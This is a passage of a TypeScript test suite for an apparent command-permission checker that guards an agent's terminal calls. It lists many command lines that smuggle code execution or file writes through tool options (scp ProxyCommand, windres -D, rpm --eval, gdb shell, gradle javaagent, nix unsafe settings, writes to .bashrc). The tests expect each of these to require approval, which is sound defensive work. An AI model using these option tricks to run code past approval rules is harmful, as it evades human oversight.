  it("dlltool's short options in a group, read as its getopt reads them: past a letter that takes a value, the rest is that value (found in review)", async () => {
    // binutils' dlltool takes a value after `m e l y D d z b p S t f I` (and `M L F` in its MCore builds): the `f` of
    // `-dfoo.def` is the .def file's name, no `--as-flags`.
    for (const line of ['dlltool -dfoo.def -llibfoo.a', 'dlltool -k -dfoo.def -Dfoo.dll -llibfoo.a', 'dlltool -mi386:x86-64 -efoo.exp -dfoo.def', 'dlltool -kdfoo.def -llibfoo.a']) {
      expect(await decided(line, [prefix('dlltool')]), line).toBe('allow');
    }
    for (const line of ['dlltool -kS./evil.sh -dfoo.def', 'dlltool -kf--MD -dfoo.def', 'dlltool -AF-wrap -dfoo.def', 'dlltool -kL./evil.sh -dfoo.def']) {
      expect(await decided(line, [prefix('dlltool')]), line).toBe('ask');
    }
  });

  it('windres, which runs its preprocessor through a shell, is exact-only, and dlltool asks about the assembler it runs (found in review)', async () => {
    // windres runs `--preprocessor` with the `--preprocessor-arg`, `-D`, `-U` and `-I` values and the input's name in
    // one line through popen, escaping only spaces and parentheses (`-D'X;sh x.sh'` runs x.sh), and an .rc file copies
    // any file it names into the output (`1 RCDATA "/home/me/.ssh/id_rsa"`): no word of the call shows what it reads.
    // A prefix rule for it, stored before it was known as exact-only, under a cross build's name too, covers nothing.
    const stored = (token: string) => ({ ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: [token], exact: false } });
    for (const [token, line] of [
      ['windres', 'windres --preprocessor=./evil.sh app.rc app.o'],
      ['windres', 'windres --preprocessor ./evil.sh app.rc app.o'],
      ['windres', "windres --preprocessor-arg='-wrapper ./evil.sh' app.rc app.o"],
      ['windres', "windres -D'X;sh x.sh' app.rc app.o"],
      ['windres', 'windres app.rc app.o'],
      ['x86_64-w64-mingw32-windres', 'x86_64-w64-mingw32-windres --preprocessor=./evil.sh app.rc app.o'],
      ['i686-w64-mingw32-windres', 'i686-w64-mingw32-windres app.rc app.o'],
      ['llvm-windres', 'llvm-windres --preprocessor=./evil.sh app.rc app.o'],
    ] as const) {
      expect(await decided(line, [stored(token)]), line).toBe('ask');
    }
    for (const name of ['windres', 'llvm-windres']) expect(() => prefix(name), name).toThrow(/must be exact/);
    expect(await decided('windres app.rc app.o', [prefix('windres app.rc app.o', { exact: true })])).toBe('allow');
    // dlltool runs the assembler `--as`/`-S` names, handed the `--as-flags`/`-f` (gas's `--MD FILE` writes anywhere),
    // and in its MCore builds the linker `--linker`/`-L` names, handed `--linker-flags`/`-F`.
    for (const [token, line] of [
      ['dlltool', 'dlltool --as=./evil.sh -d foo.def -l libfoo.a'],
      ['dlltool', 'dlltool --as ./evil.sh -d foo.def -l libfoo.a'],
      ['dlltool', 'dlltool -S ./evil.sh -d foo.def -l libfoo.a'],
      ['dlltool', 'dlltool -kS./evil.sh -d foo.def -l libfoo.a'],
      ['dlltool', "dlltool --as-flags='--MD /home/me/.bashrc' -d foo.def -l libfoo.a"],
      ['dlltool', "dlltool -f '--MD /home/me/.bashrc' -d foo.def -l libfoo.a"],
      ['dlltool', 'dlltool --linker=./evil.sh -d foo.def -l libfoo.a'],
      ['x86_64-w64-mingw32-dlltool', 'x86_64-w64-mingw32-dlltool --as=./evil.sh -d foo.def -l libfoo.a'],
      ['x86_64-w64-mingw32-dlltool', 'x86_64-w64-mingw32-dlltool -S ./evil.sh -d foo.def -l libfoo.a'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['dlltool', 'dlltool -d foo.def -l libfoo.a'],
      ['dlltool', 'dlltool -k -d foo.def -D foo.dll -l libfoo.a'],
      ['x86_64-w64-mingw32-dlltool', 'x86_64-w64-mingw32-dlltool -m i386:x86-64 -d foo.def -l libfoo.a'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('options through which hg, svn, rpm, lftp, sshfs and bsdtar run a command (found in review)', async () => {
    for (const [token, line] of [
      ['hg status', "hg status --config hooks.pre-status='touch PWNED'"],
      ['hg status', 'hg status -R ../other'],
      ['hg status', 'hg status --cwd ../other'],
      ['svn diff', 'svn diff --diff-cmd ./evil'],
      ['svn diff', 'svn diff --config-option config:helpers:diff-cmd=./evil'],
      ['rpm', "rpm --eval '%(touch PWNED)'"],
      ['rpm', "rpm -E '%(touch PWNED)'"],
      ['lftp', "lftp -c '!touch PWNED'"],
      ['sshfs', 'sshfs -o ssh_command=./evil host: mnt'],
      ['sshfs', 'sshfs -o reconnect,ProxyCommand=./evil host: mnt'],
      ['bsdtar', 'bsdtar --use-compress-program=sh -cf x.tar src'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['hg status', 'hg status -q'],
      ['svn diff', 'svn diff src'],
      ['rpm', 'rpm -qa'],
      ['sshfs', 'sshfs -o reconnect host: mnt'],
      ['bsdtar', 'bsdtar -cf x.tar src'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('options through which a package manager, git, make, cargo or go run other code', async () => {
    const rules = [prefix('npm test'), prefix('git log'), prefix('make test'), prefix('go test'), prefix('cargo test')];
    for (const command of [
      "npm test '--node-options=--import=data:text/javascript,1'",
      'npm test --script-shell ./evil.sh',
      'npm test --prefix ../..',
      'git log --output=/tmp/x',
      'git log -ccore.pager=sh',
      'make test SHELL=./evil.sh',
      'make test -sf Evil.mk',
      'go test -toolexec ./evil',
      'go test --toolexec=./evil',
      'cargo test --config build.rustc-wrapper=./evil',
      'npm test *',
      'npm test {--prefix=..,x}',
    ]) {
      expect(await decided(command, rules), command).toBe('ask');
    }
    for (const command of ['npm test', 'npm test --silent', 'cargo test "$HOME/x"', 'git log --oneline -5', 'make test -j4', 'go test ./...', 'cargo test --release']) {
      expect(await decided(command, rules), command).toBe('allow');
    }
  });

  it('a prefix rule for scp, sftp or wget covers none of their options that run a command', async () => {
    const rules = [prefix('scp'), prefix('sftp'), prefix('wget')];
    // The probe's lines (`scp -o 'ProxyCommand=sh -c "id > x"' x:y .` ran `id` through the server), and their kin.
    for (const command of [
      "scp -o 'ProxyCommand=touch x' a:b .",
      "scp -o 'ProxyCommand=sh -c \"id > MARKER\"' x:y copied.txt",
      'scp -oProxyCommand=id a:b .',
      'scp -o proxycommand=id a:b .',
      "scp -o 'ProxyCommand id' a:b .",
      "scp -4o 'LocalCommand=id' a:b .",
      'scp -o PermitLocalCommand=yes -o LocalCommand=id a:b .',
      'scp -o KnownHostsCommand=/bin/id a:b .',
      'scp -o Include=notes/cfg a:b .',
      'scp -o PKCS11Provider=./x.so a:b .',
      'scp -S ./evil a:b .',
      'scp -F notes/cfg a:b .',
      'scp -J jump a:b .',
      'scp -D ./server a:b .',
      'scp a:b . -o ProxyCommand=id',
      'sftp -F notes/cfg a',
      'sftp -o ProxyCommand=id a',
      'sftp -b notes/batch a',
      'sftp -S ./evil a',
      'wget -e use_askpass=/bin/id x',
      'wget --execute=use_askpass=/bin/id x',
      'wget -qe use_askpass=/bin/id x',
      'wget --use-askpass=/bin/id https://example.com/',
      'wget --use-ask=/bin/id https://example.com/',
      'wget --config=notes/wgetrc https://example.com/',
    ]) {
      expect(await decided(command, rules), command).toBe('ask');
    }
    for (const command of ['scp a.txt h:b', 'scp -r -P 2222 dist h:/srv', 'scp -o ConnectTimeout=5 a h:b', 'sftp h', 'wget -q https://example.com/x', 'wget -O out.html https://example.com/']) {
      expect(await decided(command, rules), command).toBe('allow');
    }
  });

  it('a prefix rule for openssl, pandoc, helm, kustomize or kubectl covers no option by which it loads or runs what the call chose', async () => {
    // Each but kubectl's, oc's and helm's kubeconfig (asked since go env files and kubeconfigs are read) was allowed under
    // the rule, and openssl, pandoc, helm and kustomize loaded or ran the file the call named.
    for (const [token, line] of [
      ['openssl req', 'openssl req -engine ./x.so -new'],
      ['openssl req', 'openssl req -new --engine=./x.so'],
      ['openssl req', 'openssl req -new -keygen_engine ./x.so'],
      ['openssl', 'openssl req -config ./x.cnf'],
      ['openssl', 'openssl req -new -provider x -provider-path .'],
      ['openssl', 'openssl req --provider-path=. -new'],
      ['openssl', 'openssl engine ./x.so'],
      ['openssl req', 'openssl req -new $X'],
      ['pandoc', 'pandoc --filter ./evil.sh x.md'],
      ['pandoc', 'pandoc --filter=./evil.sh x.md'],
      ['pandoc', 'pandoc --filt ./evil.sh x.md'],
      ['pandoc', 'pandoc -F ./evil.sh x.md'],
      ['pandoc', 'pandoc -sF./evil.sh x.md'],
      ['pandoc', 'pandoc --lua-filter x.lua x.md'],
      ['pandoc', 'pandoc -L x.lua x.md'],
      ['pandoc', 'pandoc x.md -o x.pdf --pdf-engine=./evil.sh'],
      ['pandoc', 'pandoc -d x.yaml x.md'],
      ['pandoc', 'pandoc -t ./writer.lua x.md'],
      ['pandoc x.md', 'pandoc x.md --filter ./evil.sh'],
      ['helm template', 'helm template x ./c --post-renderer ./evil.sh'],
      ['helm template', 'helm template x ./c --post-renderer=./evil.sh'],
      ['helm install', 'helm install x ./c --post-renderer ./evil.sh'],
      ['helm template', 'helm template x ./c $X'],
      ['helm list', 'helm list --kubeconfig ./kc'],
      ['kustomize build', 'kustomize build --enable-exec .'],
      ['kustomize build', 'kustomize build . --enable-exec=true'],
      ['kustomize build', 'kustomize build --enable-alpha-plugins .'],
      ['kustomize build', 'kustomize build . --enable-helm --helm-command ./evil.sh'],
      ['kustomize', 'kustomize fn run . --exec-path ./evil.sh'],
      ['kubectl kustomize', 'kubectl kustomize --enable-exec .'],
      ['kubectl kustomize', 'kubectl kustomize --enable_alpha_plugins .'],
      ['kubectl get', 'kubectl get pods --kubeconfig ./kc'],
      ['kubectl get', 'kubectl get --kubeconfig=./kc pods'],
      ['kubectl apply', 'kubectl apply -f x.yaml --kubeconfig ./kc'],
      ['kubectl get', 'kubectl get pods $X'],
      ['oc get', 'oc get pods --kubeconfig=./kc'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['openssl req', 'openssl req -new -key k.pem -out r.csr'],
      ['openssl', 'openssl x509 -in c.pem -noout -text'],
      ['pandoc', 'pandoc -s x.md -o x.html'],
      ['pandoc', 'pandoc -t html x.md'],
      ['pandoc', 'pandoc docs/*.md -o out.pdf'],
      ['helm template', 'helm template x ./c -f values.yaml'],
      ['kustomize build', 'kustomize build overlays/prod'],
      ['kubectl kustomize', 'kubectl kustomize .'],
      ['kubectl get', 'kubectl get pods -n web -o wide'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('a prefix rule for a wrapper deny rules look behind covers nothing it runs, and the schema refuses one', async () => {
    // The probe's lines: each was allowed by a prefix rule for the wrapper, and the two through the server ran.
    for (const [token, line] of [
      ['perf stat', "perf stat -- sh -c 'touch x'"],
      ['perf stat', "perf stat -x, -e task-clock -- sh -c 'id > x'"],
      ['hyperfine', "hyperfine --runs 1 'touch x'"],
      ['setarch x86_64', "setarch x86_64 sh -c 'touch x'"],
      ['linux64', "linux64 sh -c 'touch x'"],
      ['linux64', 'linux64 touch x'],
      ['ccache', "ccache sh -c 'touch x'"],
      ['tini', "tini -- sh -c 'touch x'"],
      ['rlwrap', "rlwrap sh -c 'touch x'"],
      ['dumb-init', "dumb-init sh -c 'touch x'"],
      ['systemd-inhibit', "systemd-inhibit sh -c 'touch x'"],
      ['choom', "choom -n 0 -- sh -c 'touch x'"],
      ['sccache', "sccache sh -c 'touch x'"],
      ['run0', "run0 sh -c 'touch x'"],
      ['runcon', "runcon -t x sh -c 'touch x'"],
      ['chpst', "chpst -u nobody sh -c 'touch x'"],
      ['envdir', "envdir env sh -c 'touch x'"],
      ['setuidgid', "setuidgid nobody sh -c 'touch x'"],
      ['softlimit', "softlimit -m 1000000 sh -c 'touch x'"],
    ] as const) {
      // As stored before the names were exact-only: the evaluation refuses it too.
      const stored = { ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: token.split(' '), exact: false } };
      expect(await decided(line, [stored]), line).toBe('ask');
      const draft = { effect: 'allow', tool: 'terminal', match: stored.match, scope: { kind: 'global' }, source: 'user' };
      expect(ruleDraftSchema.safeParse(draft).success, token).toBe(false);
    }
    // One list: every wrapper the deny side looks behind is exact-only for allow rules.
    for (const name of FOLLOWED_WRAPPERS) expect(isExactOnlyCommand(name), name).toBe(true);
    // An exact rule still allows the call it names.
    expect(await decided('perf stat -e task-clock make', [prefix('perf stat -e task-clock make', { exact: true })])).toBe('allow');
  });

  it('a prefix rule for a command that runs whatever it is given, stored before its name was known as one', async () => {
    const stored = prefix('printf');
    const old = { ...stored, match: { kind: 'command-prefix' as const, tokens: ['python3.11'], exact: false } };
    expect(await decided("python3.11 -c \"open('pwned', 'w')\"", [old])).toBe('ask');
  });

  it('a prefix rule for any code runner under a versioned name covers nothing it runs, and the schema refuses one', async () => {
    // Debian's guile-3.0, LLVM's lldb-15, gdb-multiarch: each ran the code under a prefix rule for its name, as
    // python3.11 would not.
    for (const [token, line] of [
      ['guile-3.0', "guile-3.0 -c '(system \"touch x\")'"],
      ['lldb-15', "lldb-15 -o 'platform shell touch x'"],
      ['gdb-multiarch', "gdb-multiarch -batch -ex 'shell touch x'"],
      ['expect5.45', "expect5.45 -c 'exec touch x'"],
      ['escript-26', 'escript-26 x.erl'],
      ['sqlite3.45', "sqlite3.45 db '.shell touch x'"],
    ] as const) {
      const stored = { ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: [token], exact: false } };
      expect(await decided(line, [stored]), line).toBe('ask');
      const draft = { effect: 'allow', tool: 'terminal', match: stored.match, scope: { kind: 'global' }, source: 'user' };
      expect(ruleDraftSchema.safeParse(draft).success, token).toBe(false);
    }
    expect(isExactOnlyCommand('guile-3.0')).toBe(true);
    expect(isExactOnlyCommand('guilemaker')).toBe(false);
  });

  it('a prefix rule for a debugger under a prefixed name, or for an interpreter, covers nothing it runs, and the schema refuses one', async () => {
    // Cross debuggers named for their target, rustup's and CUDA's wrappers of gdb and lldb, and interpreters the table
    // missed: each ran the shell line or the code given to it under a prefix rule for its name.
    for (const [token, line] of [
      ['arm-none-eabi-gdb', 'arm-none-eabi-gdb -batch -ex "shell touch x"'],
      ['x86_64-linux-gnu-gdb', 'x86_64-linux-gnu-gdb -batch -ex "shell touch x"'],
      ['aarch64-linux-gnu-gdb', 'aarch64-linux-gnu-gdb -batch -ex "shell touch x"'],
      ['rust-gdb', 'rust-gdb -batch -ex "shell touch x"'],
      ['rust-lldb', 'rust-lldb -o "platform shell touch x"'],
      ['cuda-gdb', 'cuda-gdb -ex "shell touch x"'],
      ['gdbtui', 'gdbtui -batch -ex "shell touch x"'],
      ['cgdb', 'cgdb -- -batch -ex "shell touch x"'],
      ['jython', 'jython -c x'],
      ['graalpy', 'graalpy -c x'],
      ['micropython', 'micropython -c x'],
      ['ghc', 'ghc -e x'],
      ['pry', 'pry -e x'],
      ['csi', 'csi -e x'],
      ['scheme', 'scheme --script x'],
      ['chez', 'chez --script x'],
      ['gforth', 'gforth -e x'],
      ['zx', 'zx x.mjs'],
      ['nbb', 'nbb -e x'],
    ] as const) {
      const stored = { ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: [token], exact: false } };
      expect(await decided(line, [stored]), line).toBe('ask');
      const draft = { effect: 'allow', tool: 'terminal', match: stored.match, scope: { kind: 'global' }, source: 'user' };
      expect(ruleDraftSchema.safeParse(draft).success, token).toBe(false);
    }
    for (const name of ['gdb-add-index', 'x86_64-w64-mingw32-gdb.exe', 'lldb', 'gdb']) expect(isExactOnlyCommand(name), name).toBe(true);
    for (const name of ['gdbm_dump', 'lldbmaker', 'pgdbf', 'debugdb']) expect(isExactOnlyCommand(name), name).toBe(false);
  });

  it('kubecolor, which runs kubectl with its words, is judged as kubectl, and stern and k9s given a kubeconfig are asked', async () => {
    // kubecolor hands every word to kubectl: under rules for kubecolor each of these ran what kubectl would.
    for (const [token, line] of [
      ['kubecolor', 'kubecolor exec pod -- touch x'],
      ['kubecolor get', 'kubecolor get pods --kubeconfig ./kc'],
      ['kubecolor', 'kubecolor --kuberc ./kuberc get pods'],
      ['kubecolor', 'kubecolor evil-plugin'],
      ['stern', 'stern web --kubeconfig ./kc'],
      ['k9s', 'k9s --kubeconfig=./kc'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['kubecolor get', 'kubecolor get pods -n web'],
      ['stern', 'stern web -n prod'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
    expect(await decided('kubecolor exec pod -- sh', [prefix('kubectl exec', { effect: 'deny' })])).toBe('deny');
  });

  it("make's other names (a cross build's, BSD's, makepp) are judged as make", async () => {
    for (const name of ['mingw32-make', 'x86_64-w64-mingw32-make', 'bsdmake', 'makepp']) {
      const rules = [prefix(`${name} test`), prefix('cd'), prefix('echo')];
      for (const line of [`${name} test --eval=x`, `${name} test SHELL=./evil.sh`, `${name} test -f /tmp/M`, `${name} test deploy`, `cd .git/hooks && ${name} test`, `echo x | ${name} test`]) {
        expect(await decided(line, rules), line).toBe('ask');
      }
      expect(await decided(`${name} test -j4`, rules), name).toBe('allow');
      expect(await decided(`${name} test`, [prefix('make', { effect: 'deny' })]), name).toBe('deny');
    }
  });

  it('a prefix rule for a program that runs a command by a subcommand covers no call that gives one past its words', async () => {
    // Each ran the command it gave under a rule for the program, or for a subcommand that runs one.
    for (const [token, line] of [
      ['docker', 'docker run --rm -v /:/h alpine touch /h/x'],
      ['docker', 'docker --context x exec c touch x'],
      ['docker run', 'docker run --rm -v /:/h alpine touch /h/x'],
      ['docker', 'docker $X alpine touch x'],
      ['podman', 'podman unshare touch x'],
      ['kubectl', 'kubectl exec pod -- touch x'],
      ['nix', 'nix develop -c touch x'],
      ['nix-shell', "nix-shell --run 'touch x'"],
      ['op', 'op run -- touch x'],
      ['stack', 'stack exec touch x'],
      ['flatpak', 'flatpak run org.example.App'],
      ['sops', 'sops exec-env secrets.env ./x.sh'],
      ['pm2', 'pm2 start ./x.sh'],
      ['gio', 'gio launch x.desktop'],
      ['forever', 'forever start x.js'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['docker', 'docker ps -a'],
      ['docker images', 'docker images --all'],
      ['kubectl get', 'kubectl get pods -n web'],
      ['nix', 'nix flake show'],
      ['pm2', 'pm2 list'],
      ['pm2', 'pm2'],
      ['docker run alpine ls', 'docker run alpine ls'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('a prefix rule covers no nix-shell --command, cabal v2-run, vagrant ssh -c, docker service, kubectl create … -- or guix container past its words', async () => {
    // Each ran the command it gave under the rule, as review found.
    for (const [token, line] of [
      ['nix-shell', 'nix-shell -p hello --command "touch x"'],
      ['nix-shell -p hello', 'nix-shell -p hello --command evil'],
      ['nix-shell', 'nix-shell --run=evil'],
      ['cabal', 'cabal v2-run'],
      ['cabal', 'cabal new-run evil'],
      ['cabal', 'cabal v2-exec evil'],
      ['cabal', 'cabal v1-repl'],
      ['vagrant', 'vagrant ssh -c evil'],
      ['vagrant', 'vagrant ssh default --command evil'],
      ['docker', 'docker service update --args "sh -c id" s'],
      ['docker', 'docker service create alpine touch x'],
      ['docker', 'docker attach c'],
      ['podman', 'podman attach c'],
      ['nerdctl', 'nerdctl attach c'],
      ['kubectl', 'kubectl create job j --image=alpine -- sh -c id'],
      ['kubectl create', 'kubectl create cronjob j --image=alpine --schedule="* * * * *" -- sh -c id'],
      ['kubectl', 'kubectl create deployment d --image=alpine -- evil'],
      ['oc', 'oc create job j --image=alpine -- evil'],
      ['minikube', 'minikube kubectl -- exec p -- evil'],
      ['minikube kubectl', 'minikube kubectl -- run x --image=alpine'],
      ['k3s', 'k3s kubectl exec p -- evil'],
      ['k3s kubectl', 'k3s kubectl evil'],
      ['microk8s', 'microk8s kubectl exec p -- evil'],
      ['guix', 'guix container exec 12 evil'],
      ['guix', 'guix repl x.scm'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['nix-shell', 'nix-shell -p hello'],
      ['cabal', 'cabal v2-build'],
      ['vagrant', 'vagrant status'],
      ['docker', 'docker ps -a'],
      ['kubectl', 'kubectl create namespace web'],
      ['kubectl create', 'kubectl create job j --image=alpine'],
      ['minikube', 'minikube kubectl -- get pods'],
      ['k3s', 'k3s kubectl get pods'],
      ['microk8s', 'microk8s status'],
      ['guix', 'guix search hello'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it("a prefix rule for nix covers no call given a setting of nix's by --option, --extra-… or a flag of its own that runs code", async () => {
    // With the unsafe setting on, an expression's builtins.exec runs a command while nix evaluates it.
    for (const [token, line] of [
      ['nix eval', 'nix eval --option allow-unsafe-native-code-during-evaluation true --expr x'],
      ['nix eval', 'nix eval --allow-unsafe-native-code-during-evaluation --expr x'],
      ['nix', 'nix build --post-build-hook ./evil.sh .#x'],
      ['nix', 'nix build --extra-plugin-files ./x.so .#x'],
      ['nix-instantiate', 'nix-instantiate --option allow-unsafe-native-code-during-evaluation true --eval x.nix'],
      ['nix-instantiate', 'nix-instantiate --eval x.nix --plugin-files=./x.so'],
      ['nix-build', 'nix-build --option pre-build-hook ./evil.sh'],
      ['nix-shell -p hello', 'nix-shell -p hello --option plugin-files ./x.so'],
      ['nix-build', 'nix-build $X'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
      expect((await evaluateRules(terminal(line), [prefix('rm -rf', { effect: 'deny' })], context)), line).toHaveProperty('because');
    }
    for (const [token, line] of [
      ['nix eval', 'nix eval --expr 1+1'],
      ['nix', 'nix build .#x --print-build-logs'],
      ['nix-build', 'nix-build default.nix -A x'],
      ['nix-instantiate', 'nix-instantiate --eval x.nix'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  // Each `asked` line is asked under a prefix rule for its program, and is not plain under a command deny rule.
  const codeOptionCases = async (asked: readonly (readonly [string, string])[], allowed: readonly (readonly [string, string])[]) => {
    for (const [token, line] of asked) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
      expect(await evaluateRules(terminal(line), [prefix('rm -rf', { effect: 'deny' })], context), line).toHaveProperty('because');
    }
    for (const [token, line] of allowed) expect(await decided(line, [prefix(token)]), line).toBe('allow');
  };

  it('a prefix rule for ssh-keygen, ssh-add or tcpdump covers no call given a library to load, a command to run or a file to write', async () => {
    await codeOptionCases(
      [
        ['ssh-keygen', 'ssh-keygen -D ./pkcs11.so'],
        ['ssh-keygen -l', 'ssh-keygen -l -D ./pkcs11.so'],
        ['ssh-keygen', 'ssh-keygen -vD ./pkcs11.so'],
        ['ssh-keygen', 'ssh-keygen -D./pkcs11.so'],
        ['ssh-keygen', 'ssh-keygen -t ecdsa-sk -w ./provider.so -f k'],
        ['ssh-add', 'ssh-add -s ./pkcs11.so'],
        ['ssh-add', 'ssh-add -S ./provider.so k'],
        ['ssh-add', 'ssh-add -vs./pkcs11.so'],
        ['tcpdump -i eth0', 'tcpdump -i eth0 -w x.pcap -G 1 -z ./rotated.sh'],
        ['tcpdump', 'tcpdump -i eth0 -z./rotated.sh -w x -G 1'],
        ['tcpdump', 'tcpdump -i eth0 -w .bashrc'],
        ['tcpdump', 'tcpdump -nw x.pcap'],
      ],
      [
        ['ssh-keygen', 'ssh-keygen -l -f key.pub'],
        ['ssh-add', 'ssh-add -l'],
        ['tcpdump', 'tcpdump -i eth0 -c 10'],
        ['tcpdump', 'tcpdump -nn -i any port 80'],
      ],
    );
  });

  it('a prefix rule for nmap covers no call given scripts, a data folder, a scan to resume or a file to write, after one dash or two', async () => {
    await codeOptionCases(
      [
        ['nmap', 'nmap --script ./x.nse host'],
        ['nmap -sV', 'nmap -sV --script=vuln host'],
        ['nmap', 'nmap -script=./x.nse host'],
        ['nmap', 'nmap -script ./x.nse host'],
        ['nmap', 'nmap -scri ./x.nse host'],
        ['nmap', 'nmap --script-help ./x.nse'],
        ['nmap', 'nmap -datadir . -sC host'],
        ['nmap', 'nmap --datadir=. -sC host'],
        ['nmap', 'nmap -sC --script-args-file args.txt host'],
        ['nmap', 'nmap --resume scan.log'],
        ['nmap', 'nmap -oN .bashrc host'],
        ['nmap', 'nmap -oX out.xml host'],
        ['nmap', 'nmap -oA out host'],
        ['nmap', 'nmap --oG=out host'],
      ],
      [
        ['nmap', 'nmap -sV host'],
        ['nmap', 'nmap -sC host'],
        ['nmap', 'nmap -d -Pn -p 80,443 host'],
        ['nmap', 'nmap -sS -T4 --top-ports 10 -open host'],
      ],
    );
  });

  it('a prefix rule for gpg covers no call given a program to run, or a config or a home whose gpg.conf may name one', async () => {
    await codeOptionCases(
      [
        ['gpg', 'gpg --photo-viewer ./viewer --list-options show-photos --list-keys'],
        ['gpg', 'gpg --exec-path ./bin --recv-keys X'],
        ['gpg', 'gpg --homedir ./g --list-keys'],
        ['gpg', 'gpg --home ./g --list-keys'],
        ['gpg', 'gpg --options ./gpg.conf --list-keys'],
        ['gpg --list-keys', 'gpg --list-keys --homedir=./g'],
        ['gpg', 'gpg --agent-program ./agent -d x.gpg'],
        ['gpg2', 'gpg2 --photo-viewer ./viewer --list-keys'],
      ],
      [
        ['gpg', 'gpg --list-keys'],
        ['gpg', 'gpg --verify x.sig x'],
        ['gpg2', 'gpg2 --list-keys'],
      ],
    );
  });

  it('a setting gpg, nmap, ssh-keygen or ssh-add takes from the environment (GNUPGHOME, NMAPDIR, SSH_SK_PROVIDER) is covered by no rule and not plain, before the command, through env or exported', async () => {
    for (const [token, line] of [
      ['gpg', 'GNUPGHOME=./g gpg --list-keys'],
      ['gpg', 'env GNUPGHOME=./g gpg --list-keys'],
      ['gpg', 'export GNUPGHOME=./g && gpg --list-keys'],
      ['gpg2', 'GNUPGHOME=./g gpg2 --list-keys'],
      ['nmap', 'NMAPDIR=./x nmap -sC host'],
      ['nmap', 'env NMAPDIR=./x nmap -sC host'],
      ['nmap', 'declare -x NMAPDIR=./x; nmap -sC host'],
      ['ssh-keygen', 'SSH_SK_PROVIDER=./lib.so ssh-keygen -t ecdsa-sk -f k'],
      ['ssh-keygen', 'env SSH_SK_PROVIDER=./lib.so ssh-keygen -t ecdsa-sk -f k'],
      ['ssh-add', 'SSH_SK_PROVIDER=./lib.so ssh-add -K'],
      ['ssh-add', 'env -i SSH_SK_PROVIDER=./lib.so ssh-add -K'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
      expect(await evaluateRules(terminal(line), [prefix('rm -rf', { effect: 'deny' })], context), line).toHaveProperty('because');
    }
  });

  it("a prefix rule for oc, kubectl, gradle or nox covers no call given a kubeconfig or kuberc, an init script or a noxfile", async () => {
    await codeOptionCases(
      [
        ['oc', 'oc --config ./kc get pods'],
        ['oc get', 'oc get pods --config=./kc'],
        ['oc', 'oc --kuberc=./kuberc get pods'],
        ['kubectl', 'kubectl --kuberc ./kuberc get pods'],
        ['gradle build', 'gradle build -I ./init.gradle'],
        ['gradle build', 'gradle build -I./init.gradle'],
        ['gradle', 'gradle --init-script=./init.gradle build'],
        ['gradlew', 'gradlew build --init-script init.gradle.kts'],
        ['nox', 'nox -f ./x.py'],
        ['nox -s tests', 'nox -s tests --noxfile=./x.py'],
        ['nox', 'nox -rf x.py'],
        ['nox', 'nox --noxf x.py'],
      ],
      [
        ['oc', 'oc get pods'],
        ['kubectl', 'kubectl get pods'],
        ['gradle', 'gradle build'],
        ['nox', 'nox -s tests'],
      ],
    );
  });

  it('a prefix rule for gradle or gradlew covers no call given another project, settings or build file, an included build, a user home, a project cache or a JVM to run, as Gradle reads them', async () => {
    await codeOptionCases(
      [
        ['gradle build', 'gradle build -p ../other'],
        ['gradle build', 'gradle build -p/tmp/x'],
        ['gradle build', 'gradle build -p=/tmp/x'],
        ['gradle build', 'gradle build --p /tmp/x'],
        ['gradle', 'gradle --project-dir=../other build'],
        ['gradle', 'gradle -project-dir ../other build'],
        ['gradle test', 'gradle test -c ./x.gradle'],
        ['gradle test', 'gradle test --settings-file ./x.gradle'],
        ['gradle test', 'gradle test -b ./x.gradle'],
        ['gradle test', 'gradle test --build-file=./x.gradle.kts'],
        ['gradle test', 'gradle test -bx.gradle'],
        ['gradle test', 'gradle test -g ./home'],
        ['gradle test', 'gradle test --gradle-user-home ./home'],
        ['gradle test', 'gradle test -gradle-user-home=./home'],
        ['gradle test', 'gradle test --include-build ../lib'],
        ['gradle test', 'gradle test -include-build ../lib'],
        ['gradle test', 'gradle test --project-cache-dir ./cache'],
        ['gradle test', 'gradle test -init-script ./init.gradle'],
        ['gradle test', 'gradle test --I=./init.gradle'],
        ['gradle test', 'gradle test -Dgradle.user.home=./home'],
        ['gradle test', 'gradle test -D org.gradle.java.home=./jdk'],
        ['gradle test', 'gradle test --system-prop=org.gradle.jvmargs=-javaagent:./a.jar'],
        ['gradle test', 'gradle test -Dorg.gradle.java.installations.paths=./jdk'],
        ['gradle test', 'gradle test -Porg.gradle.java.installations.paths=./jdk'],
        ['gradle test', 'gradle test -P org.gradle.java.installations.paths=./jdk'],
        ['gradle test', 'gradle test --project-prop=org.gradle.java.installations.fromEnv=PWD'],
        ['gradle test', 'gradle test -Dorg.gradle.java.installations.fromEnv=PWD'],
        ['gradlew test', 'gradlew test -p ../other'],
        ['gradlew', 'gradlew --include-build=../lib test'],
        ['gradlew', 'gradlew -g ./home test'],
        // No long option of that whole name: read as the letter, its value attached (`-p arallel=true`, `-c onsole=plain`).
        ['gradle test', 'gradle test -parallel=true'],
        ['gradle test', 'gradle test -console=plain'],
        ['gradle test', 'gradle test -pconsole'],
      ],
      [
